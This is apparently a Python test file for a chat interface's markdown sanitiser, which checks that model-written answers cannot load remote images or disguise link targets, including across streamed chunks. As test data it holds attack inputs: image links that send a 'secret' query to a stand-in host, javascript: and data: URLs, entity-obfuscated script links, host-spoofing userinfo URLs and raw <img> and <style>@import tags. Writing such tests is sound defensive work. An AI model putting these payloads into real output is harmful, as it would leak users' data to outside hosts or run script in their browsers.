"""What a model wrote is shown without asking another host, and without hiding one."""

import re

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.web.chat.safe_markdown import SafeStream, make_safe, target_of

PICTURE = "not loaded from {host}"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("Leave is **26 weeks** [1].", "Leave is **26 weeks** [1]."),
        ("![a cat](https://evil.example/x.png?d=secret)", "a cat (not loaded from evil.example)"),
        ("![](//evil.example/x.png)", "(not loaded from ?)"),
        (
            "![a][r]\n\n[r]: https://evil.example/x 'title'",
            "a (not loaded from evil.example)\n\n[r]\\: https://evil.example/x 'title'",
        ),
        (
            "[![a](https://evil.example/x)](https://evil.example/y)",
            "[a (not loaded from evil.example)](https://evil.example/y) (evil.example)",
        ),
        ("[the handbook](https://evil.example/y)", "[the handbook](https://evil.example/y) (evil.example)"),
        ("[https://good.example](https://evil.example)", "[https://good.example](https://evil.example) (evil.example)"),
        ("[https://a.example/b](https://a.example/b)", "[https://a.example/b](https://a.example/b)"),
        ("[x](javascript:alert(1))", "x"),
        ("[x](JaVaScRiPt:alert(1))", "x"),
        ("[x](&#106;avascript:alert(1))", "x"),
        ("[x](data:text/html;base64,aGk=)", "x"),
        ("[x](/admin/settings)", "x"),
        ("[x](//evil.example)", "x"),
        ("[write](mailto:a@evil.example?subject=s)", "[write](mailto:a@evil.example?subject=s) (a@evil.example)"),
        ("[x](https://good.example@evil.example/)", "[x](https://good.example@evil.example/) (evil.example)"),
        ("[x](https://evil.example\\@good.example/)", "[x](https://evil.example@good.example/) (good.example)"),
        ("[x](<https://evil.example/a b>)", "[x](https://evil.example/ab) (evil.example)"),
        ("[1](https://evil.example)", "[1]"),
        ("[1]: https://evil.example\n\nSo it is [1].", "[1]\\: https://evil.example\n\nSo it is [1]."),
        ("[text][r]\n\n[r]: javascript:alert(1)", "text\n\n[r]\\: javascript:alert(1)"),
        ("<https://a.example/b>", "<https://a.example/b>"),
        ("<javascript:alert(1)>", "\\<javascript\\:alert(1)>"),
        ("https://good.example@evil.example/x", "https://good.example@evil.example/x (evil.example)"),
        ("<img src=https://evil.example/x>", "\\<img src=https://evil.example/x>"),
        ("<style>@import url(https://evil.example)</style>", "\\<style>@import url(https://evil.example)\\</style>"),
        ("```mermaid\ngraph\n```", "```text\ngraph\n```"),
        ("```\n![a](https://evil.example)\n```", "```\n![a](https://evil.example)\n```"),
        ("`![a](https://evil.example)`", "`![a](https://evil.example)`"),
        ("    ![a](https://evil.example)", "    ![a](https://evil.example)"),
        ("| a |\n|---|\n| ![b](https://evil.example/c) |", "| a |\n|---|\n| b (not loaded from evil.example) |"),
        (
            "<div>\n```\n\n```\n![a](https://evil.example)\n```",
            "\\<div>\n```\n\n```\na (not loaded from evil.example)\n```",
        ),
        ("2 < 3 and a[0] = b[1]!", "2 \\< 3 and a[0] = b[1]!"),
    ],
)
def test_what_could_load_or_mislead_is_taken_apart(written: str, shown: str) -> None:
    assert make_safe(written, PICTURE) == shown
    assert make_safe(shown, PICTURE) == shown


PIECES = (
    *("![", "[", "]", "](", ")", "(", "<", ">", "`", "```", "\n", "\n\n", "    ", "> ", "- ", "|", "\\", "!", "a", "1"),
    *(" ", ":", '"', "'", "&#33;", "&lt;", "https://evil.example/x", "javascript:a", "data:b", "//e.example"),
    *("mailto:a@e.example", "[r]", "[r]: https://evil.example/r", "<img src=x>", "<https://evil.example>", "~~", "**"),
    *("@", " (evil.example)", "mermaid"),
)
TRICKY = st.lists(st.sampled_from(PIECES), max_size=24).map("".join)


def loads(markdown: str) -> list[str]:
    """What the page of a careless reader would load, or link to without saying so."""
    found = []
    env: dict[str, object] = {}
    for token in MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown, env):
        if token.type == "html_block":
            found.append(token.content)
        for child in token.children or []:
            if child.type in ("image", "html_inline"):
                found.append(child.content or str(child.attrs))
            if child.type == "link_open" and not re.match("https?:|mailto:", str(child.attrs["href"]), re.IGNORECASE):
                found.append(str(child.attrs["href"]))
    return found


@given(TRICKY)
@example("[![a](https://evil.example/x)][r]\n\n[r]: https://evil.example/r")
@example("<div>\n```\n\n```\n![a](https://evil.example/x)\n```")
def test_nothing_loads_however_it_is_put_together(text: str) -> None:
    assert loads(make_safe(text)) == []


@given(TRICKY)
def test_making_safe_what_is_safe_changes_nothing(text: str) -> None:
    once = make_safe(text)
    assert make_safe(once) == once


@given(st.text())
def test_any_text_can_be_shown(text: str) -> None:
    assert loads(make_safe(text)) == []


@given(st.text(alphabet="abc .,*_0123456789\n[]", max_size=80))
def test_an_answer_without_links_and_html_is_shown_as_it_was_written(text: str) -> None:
    if "](" not in text and "][" not in text and "]:" not in text:
        assert make_safe(text) == text


@given(TRICKY, st.integers(1, 7))
def test_an_answer_in_pieces_is_safe_at_every_moment_and_whole_in_the_end(text: str, length: int) -> None:
    stream, shown = SafeStream("picture at {host}, not loaded"), ""
    for start in range(0, len(text), length):
        token, is_whole = stream.feed(text[start : start + length])
        shown = token if is_whole else shown + token
        assert loads(shown) == []
    assert shown == make_safe(text)


def test_a_stream_can_begin_again_with_what_was_checked() -> None:
    stream = SafeStream(PICTURE)
    stream.feed("![a](https://evil.")
    assert stream.put("Checked [1]. ") == "Checked [1]. "
    assert stream.feed("More.") == ("More.", False)


def test_an_address_is_the_same_for_every_reader() -> None:
    target = target_of('HTTPS://Evil.example:8443/a b"c')
    assert target is not None
    assert (target.url, target.host) == ("HTTPS://Evil.example:8443/ab%22c", "evil.example:8443")
    assert target_of("https://") is None
    assert target_of("https:evil.example") is None


@pytest.mark.parametrize(("opening", "count"), [("[", 50), ("![", 50), ("[", 5_000), ("![", 5_000)])
def test_brackets_without_end_load_nothing(opening: str, count: int) -> None:
    assert loads(make_safe(opening * count + "](https://evil.example)" * count)) == []
